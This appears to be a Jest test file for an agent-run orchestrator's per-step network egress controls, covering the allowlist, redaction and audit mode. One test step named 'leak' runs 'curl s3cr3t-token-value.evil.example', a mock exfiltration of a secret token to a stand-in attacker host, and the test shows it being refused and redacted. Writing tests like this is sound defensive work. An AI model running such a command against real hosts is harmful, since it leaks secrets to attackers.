// The run's half of per-step egress: beginStep before every step that runs (with the step's
// `egress:`, on by default for an agent with command_line_egress, off for one without), never for
// skipped steps; the session's report in results per step and per agent, redacted; the log lines
// and the audit proposal at the agent's end.
import { describe, expect, it } from '@jest/globals'
import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { RunPlan, RunStep, Step } from '../../../src/config/types.js'
import { Redactor } from '../../../src/report/redact.js'
import { Run } from '../../../src/run/orchestrate.js'
import {
  compileEgressPolicy,
  emptyEgressConfig,
  EgressLog,
  type EgressConfig
} from '../../../src/runtime/egress/index.js'
import type { AgentSession, ExecRequest, Runtime } from '../../../src/runtime/types.js'
import { agentPlan, runPlan, runStep } from '../../helpers/plan.js'

type Begun = { index: number; name?: string; egress: boolean }

/** A session whose commands "request" the host named after `curl `; egress decided per step. */
function runtime(config: EgressConfig | undefined, begun: Begun[]): Runtime {
  return {
    async start(): Promise<AgentSession> {
      const log = config ? new EgressLog(compileEgressPolicy(config), () => new Date(0)) : undefined
      let step: Begun | undefined
      return {
        info: { mode: 'docker' },
        beginStep(s) {
          begun.push({ ...s })
          step = s
          log?.enterStep(s)
        },
        egressReport: () => log?.report(),
        async execBackground() {},
        async saveLogs() {},
        async exec(req: ExecRequest) {
          const host = /^curl (\S+)/.exec(req.command)?.[1]
          if (host && log) {
            const ok = step?.egress === true && config!.allowedDomains.includes(host)
            log.record(host, 443, ok ? 'allowed' : 'refused', {
              allowed: ok,
              rule: ok ? `allowed_domains: ${host}` : step?.egress ? 'not-listed' : 'egress-off',
              reason: ''
            })
          }
          return {
            exitCode: req.command === 'false' ? 1 : 0,
            stdout: '',
            stderr: '',
            truncated: false,
            timedOut: false,
            oom: false,
            durationMs: 1
          }
        },
        writeFile: async () => undefined,
        readFile: async () => '',
        close: async () => undefined
      }
    }
  }
}

function plan(steps: Step[], egress?: EgressConfig): RunPlan {
  const agent = agentPlan({
    mode: 'docker',
    workspace: tmpdir(),
    maxOutputBytes: 1024,
    steps,
    ...(egress ? { egress } : {})
  })
  return runPlan([agent], {
    configFile: '/c.yaml',
    workingDirectory: tmpdir(),
    defaults: { timeoutSec: 60, maxOutputBytes: 1024 }
  })
}

/** A run step with a 5 s timeout at `index`. */
const step = (index: number, command: string, extra: Partial<RunStep> = {}): Step =>
  runStep(command, { index, timeoutSec: 5, ...extra })

async function execute(p: RunPlan, egress: EgressConfig | undefined, redactor?: Redactor) {
  const begun: Begun[] = []
  const lines: string[] = []
  const run = new Run(p, {
    runId: 'r',
    outDir: mkdtempSync(join(tmpdir(), 'orch-egress-')),
    configLabel: 'c.yaml',
    runtimeFor: () => runtime(egress, begun),
    log: (l) => lines.push(l),
    redactor
  })
  return { res: await run.execute(), begun, lines }
}

describe('per-step egress in the run', () => {
  const egress = { ...emptyEgressConfig(), allowedDomains: ['pypi.org'] }

  it('begins every step that runs with its egress switch; skipped steps begin nothing', async () => {
    const { begun } = await execute(
      plan(
        [
          step(0, 'curl pypi.org', { name: 'deps' }),
          { kind: 'write_file', index: 1, path: join(tmpdir(), 'x'), content: '' },
          step(2, 'pytest', { name: 'tests', egress: false }),
          step(3, 'false'),
          step(4, 'never')
        ],
        egress
      ),
      egress
    )
    expect(begun).toEqual([
      { index: 0, name: 'deps', egress: true },
      { index: 1, name: undefined, egress: true },
      { index: 2, name: 'tests', egress: false },
      { index: 3, name: undefined, egress: true }
    ])
  })

  it('an agent without command_line_egress begins its steps with egress off', async () => {
    const { begun, res } = await execute(plan([step(0, 'true')]), undefined)
    expect(begun).toEqual([{ index: 0, name: undefined, egress: false }])
    expect(res.agents[0].egress).toBeUndefined()
    expect(res.agents[0].commands[0].egress).toBeUndefined()
  })

  it('puts each step its destinations, and the agent the whole report, redacted', async () => {
    const redactor = new Redactor()
    redactor.add('s3cr3t-token-value')
    const { res, lines } = await execute(
      plan(
        [
          step(0, 'curl pypi.org', { name: 'deps' }),
          step(1, 'curl s3cr3t-token-value.evil.example', { name: 'leak' }),
          step(2, 'curl pypi.org', { name: 'offline', egress: false })
        ],
        egress
      ),
      egress,
      redactor
    )
    const [deps, leak, offline] = res.agents[0].commands
    expect(deps.egress).toMatchObject({
      index: 0,
      name: 'deps',
      egress: true,
      destinations: [{ host: 'pypi.org', outcome: 'allowed', count: 1 }]
    })
    expect(leak.egress?.destinations).toMatchObject([
      { host: '***.evil.example', outcome: 'refused', rule: 'not-listed' }
    ])
    expect(offline.egress).toMatchObject({
      egress: false,
      destinations: [{ host: 'pypi.org', outcome: 'refused', rule: 'egress-off' }]
    })
    expect(res.agents[0].egress?.totals).toEqual({ allowed: 1, refused: 2, failed: 0 })
    expect(JSON.stringify(res)).not.toContain('s3cr3t')
    expect(lines).toContain('[a] egress (allowlist): 1 allowed, 2 refused, 0 failed connection(s)')
    expect(lines).toContain('[a]   refused ***.evil.example:443 in step 2 (leak): not-listed')
  })

  it('audit mode: the proposal is logged at the agent’s end', async () => {
    const audit = { ...emptyEgressConfig(), audit: true }
    const { res, lines } = await execute(
      plan([step(0, 'curl pypi.org'), step(1, 'curl files.example')], audit),
      audit
    )
    expect(res.agents[0].egress?.proposedAllowedDomains).toEqual(['files.example', 'pypi.org'])
    expect(lines).toContain(
      '[a] egress audit: proposed command_line_egress.allowed_domains: ["files.example","pypi.org"]'
    )
  })
})
